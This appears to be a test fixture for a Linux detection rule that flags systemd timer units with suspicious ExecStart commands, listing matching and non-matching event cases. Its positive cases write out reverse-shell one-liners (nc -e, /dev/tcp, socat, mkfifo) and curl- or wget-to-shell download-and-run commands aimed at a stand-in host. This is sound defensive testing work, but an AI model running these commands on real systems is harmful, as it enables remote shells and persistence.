# SPDX-License-Identifier: GPL-2.0-or-later
# Base: a shell writes a unit. What it starts is in the event.
rule systemd-timer-content
base {"event.category": "file", "event.action": "creation", "host.os.type": "linux", "process.executable": "/usr/bin/bash", "file.path": "/etc/systemd/system/x.timer", "tocsin.unit.exec_start": "/tmp/x"}

# commands
+ tmp {"tocsin.unit.exec_start": "/tmp/x"}
+ tmp-ignored-failure {"tocsin.unit.exec_start": "-/tmp/x --daemon"}
+ var-tmp {"tocsin.unit.exec_start": "/var/tmp/.a/b"}
+ shm {"tocsin.unit.exec_start": "/dev/shm/x"}
+ sh-tmp {"tocsin.unit.exec_start": "/bin/sh /tmp/x.sh"}
+ sh-c-tmp {"tocsin.unit.exec_start": "/bin/sh -c '/tmp/x.sh'"}
+ python-tmp {"tocsin.unit.exec_start": "/usr/bin/python3 /tmp/x.py"}
+ nohup-shm {"tocsin.unit.exec_start": "/usr/bin/nohup /dev/shm/x"}
+ behind-a-semicolon {"tocsin.unit.exec_start": "/bin/bash -c 'sleep 5; /tmp/x'"}
+ env-tmp {"tocsin.unit.exec_start": "/usr/bin/env /var/tmp/x"}
+ hidden-folder {"tocsin.unit.exec_start": "/usr/lib/.cache/x"}
+ hidden-file {"tocsin.unit.exec_start": "/usr/bin/.x"}
+ hidden-in-etc {"tocsin.unit.exec_start": "/etc/.x/run"}
+ hidden-at-root {"tocsin.unit.exec_start": "/.x/run"}
+ hidden-in-home {"tocsin.unit.exec_start": "/home/u/bin/.x --quiet"}
+ hidden-script {"tocsin.unit.exec_start": "/bin/bash /root/.x.sh"}
+ hidden-in-var {"tocsin.unit.exec_start": "/var/lib/x/.x"}
+ curl-sh {"tocsin.unit.exec_start": "/bin/sh -c 'curl -s http://198.51.100.1/a | sh'"}
+ wget-sudo-bash {"tocsin.unit.exec_start": "/bin/sh -c 'wget -qO- http://198.51.100.1/a|sudo /bin/bash'"}
+ curl-python {"tocsin.unit.exec_start": "/bin/bash -c \"curl -fsSL https://198.51.100.1/ | python3 -\""}
+ substitution {"tocsin.unit.exec_start": "/bin/bash -c '$(curl -s http://198.51.100.1/a)'"}
+ backticks {"tocsin.unit.exec_start": "/bin/bash -c 'eval `wget -qO- http://198.51.100.1/a`'"}
+ hidden-in-local-bin {"tocsin.unit.exec_start": "/usr/local/bin/.x/y"}
+ and-tmp {"tocsin.unit.exec_start": "/bin/sh -c 'true && /tmp/x'"}
+ ruby-e {"tocsin.unit.exec_start": "/usr/bin/ruby3.1 -e 's=TCPSocket.open(1)'"}
+ process-substitution {"tocsin.unit.exec_start": "/bin/bash -c 'bash <(curl -s http://198.51.100.1/a)'"}
+ fetch-and-chmod {"tocsin.unit.exec_start": "/bin/sh -c 'wget http://198.51.100.1/a -O /opt/a; chmod +x /opt/a'"}
+ dev-tcp {"tocsin.unit.exec_start": "/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.1/443 0>&1'"}
+ nc-e {"tocsin.unit.exec_start": "/bin/nc -e /bin/sh 198.51.100.1 443"}
+ ncat-exec {"tocsin.unit.exec_start": "/usr/bin/ncat 198.51.100.1 443 --exec /bin/sh"}
+ nc-traditional {"tocsin.unit.exec_start": "/bin/nc.traditional 198.51.100.1 443 -e /bin/sh"}
+ mkfifo-nc {"tocsin.unit.exec_start": "/bin/sh -c 'mkfifo /var/x; sh -i < /var/x 2>&1 | nc 198.51.100.1 443 > /var/x'"}
+ socat {"tocsin.unit.exec_start": "/usr/bin/socat TCP:198.51.100.1:443 EXEC:/bin/bash,pty"}
+ base64 {"tocsin.unit.exec_start": "/bin/sh -c 'echo aWQK | base64 -d | bash'"}
+ python-socket {"tocsin.unit.exec_start": "/usr/bin/python3 -c 'import socket,os;s=socket.socket()'"}
+ perl-socket {"tocsin.unit.exec_start": "/usr/bin/perl -e 'use Socket;'"}
+ ruby-socket {"tocsin.unit.exec_start": "/usr/bin/ruby -rsocket -e 'TCPSocket.new'"}
+ php-socket {"tocsin.unit.exec_start": "/usr/bin/php -r '$s=fsockopen(1);'"}
+ lua-socket {"tocsin.unit.exec_start": "/usr/bin/lua5.4 -e 'require(\"socket\")'"}
+ awk-inet {"tocsin.unit.exec_start": "/usr/bin/gawk 'BEGIN{s=\"/inet/tcp/0/198.51.100.1/1\"}'"}
+ nc-shell {"tocsin.unit.exec_start": "/bin/sh -c 'nc.openbsd 198.51.100.1 443 | /bin/sh'"}
+ openssl {"tocsin.unit.exec_start": "/bin/sh -c 'openssl s_client -quiet -connect 198.51.100.1:443 | tee /run/x'"}
+ telnet {"tocsin.unit.exec_start": "/bin/sh -c 'telnet 198.51.100.1 23 | sh'"}
+ wget-perl {"tocsin.unit.exec_start": "/bin/sh -c 'wget -O- http://198.51.100.1/a | perl5.36'"}
+ prefixes {"tocsin.unit.exec_start": "+!/usr/.x/y"}
+ prefixes-home {"tocsin.unit.exec_start": ":/root/.x"}
+ in-capitals {"tocsin.unit.exec_start": "/bin/sh -c 'CURL http://198.51.100.1 | SH'"}
+ second-command {"tocsin.unit.exec_start": ["/usr/bin/true", "/tmp/x"]}

# acts and places
+ rename {"event.action": "rename"}
+ modification {"event.action": "modification"}
+ snapshot {"event.action": "snapshot"}
+ by-a-package {"process.executable": "/usr/bin/dpkg"}
+ unknown-process {"process.executable": null, "process.name": null}
+ user-unit {"file.path": "/home/u/.config/systemd/user/x.timer"}
+ run {"file.path": "/run/systemd/system/x.timer"}
+ transient {"file.path": "/run/systemd/transient/x.timer"}
+ run-user {"file.path": "/run/systemd/user/x.timer"}
+ drop-in {"file.path": "/etc/systemd/system/ssh.timer.d/override.conf"}

# commands that services really have
- plain {"tocsin.unit.exec_start": "/usr/sbin/nginx -g 'daemon on;'"}
- tmp-as-argument {"tocsin.unit.exec_start": "/usr/bin/find /tmp -mtime +7 -delete"}
- script-with-tmp {"tocsin.unit.exec_start": "/usr/local/bin/backup.sh /tmp/backup"}
- log-in-tmp {"tocsin.unit.exec_start": "/bin/sh -c 'tool >& /tmp/log'"}
- puma {"tocsin.unit.exec_start": "/usr/bin/ruby /usr/bin/puma -e production --environment x"}
- metadata {"tocsin.unit.exec_start": "/bin/sh -c 'echo ID=$(curl -s http://169.254.169.254/latest/meta-data/instance-id) > /run/id'"}
- venv-in-local {"tocsin.unit.exec_start": "/usr/local/lib/app/.venv/bin/python -m app"}
- tmp-as-option {"tocsin.unit.exec_start": "/usr/sbin/mysqld --tmpdir=/tmp/mysql --socket=/tmp/mysql.sock"}
- rm-tmp {"tocsin.unit.exec_start": "-/bin/rm -rf /tmp/cache"}
- tmpfiles {"tocsin.unit.exec_start": "systemd-tmpfiles --clean"}
- python-tmp-option {"tocsin.unit.exec_start": "/usr/bin/python3 /opt/app/run.py --cache /tmp/app"}
- venv {"tocsin.unit.exec_start": "/opt/app/.venv/bin/gunicorn app:app"}
- local-bin {"tocsin.unit.exec_start": "/home/u/.local/bin/syncthing serve"}
- cargo {"tocsin.unit.exec_start": "/root/.cargo/bin/tool"}
- nvm {"tocsin.unit.exec_start": "/var/lib/svc/.nvm/versions/node/v18/bin/node server.js"}
- hidden-config {"tocsin.unit.exec_start": "/usr/bin/tool --config /home/u/.config/tool"}
- dotted-name {"tocsin.unit.exec_start": "/usr/bin/tool.sh a.b"}
- relative-dots {"tocsin.unit.exec_start": "/usr/lib/../bin/tool"}
- curl-alone {"tocsin.unit.exec_start": "/usr/bin/curl -s http://localhost/health"}
- curl-grep {"tocsin.unit.exec_start": "/bin/sh -c 'curl -s http://localhost/health | grep -q push'"}
- wget-tee {"tocsin.unit.exec_start": "/bin/sh -c 'wget -qO- http://localhost/ | tee /var/log/x'"}
- netcat-listens {"tocsin.unit.exec_start": "/bin/nc -lk 9000"}
- nc-no-exec {"tocsin.unit.exec_start": "/bin/nc -z localhost 80"}
- rsync-e {"tocsin.unit.exec_start": "/usr/bin/rsync -e ssh /a b:/c"}
- base64-encode {"tocsin.unit.exec_start": "/bin/sh -c 'base64 /etc/hostname > /run/x'"}
- socat-forward {"tocsin.unit.exec_start": "/usr/bin/socat TCP-LISTEN:80,fork TCP:localhost:8080"}
- python-c {"tocsin.unit.exec_start": "/usr/bin/python3 -c 'print(1)'"}
- sync-ec {"tocsin.unit.exec_start": "/usr/bin/sync -ec x"}
- dev-null {"tocsin.unit.exec_start": "/bin/sh -c 'tool > /dev/null 2>&1'"}
- fc-match {"tocsin.unit.exec_start": "/usr/bin/fsync -c /x"}
- apt {"tocsin.unit.exec_start": "/usr/lib/apt/apt.systemd.daily update"}
- man-db {"tocsin.unit.exec_start": "+/usr/bin/install -d -o man -g man -m 0755 /var/cache/man"}
- fstrim {"tocsin.unit.exec_start": "/sbin/fstrim --listed-in /etc/fstab:/proc/self/mountinfo --verbose --quiet-unsupported"}
- no-command {"tocsin.unit.exec_start": null}

# near misses
- other-unit {"file.path": "/etc/systemd/system/x.service"}
- drop-in-of-another {"file.path": "/etc/systemd/system/x.service.d/a.conf"}
- conf-elsewhere {"file.path": "/etc/systemd/system/x.conf"}
- elsewhere {"file.path": "/opt/x.timer"}
- deleted {"event.action": "deletion"}
- chmod {"event.action": "attributes_modified"}
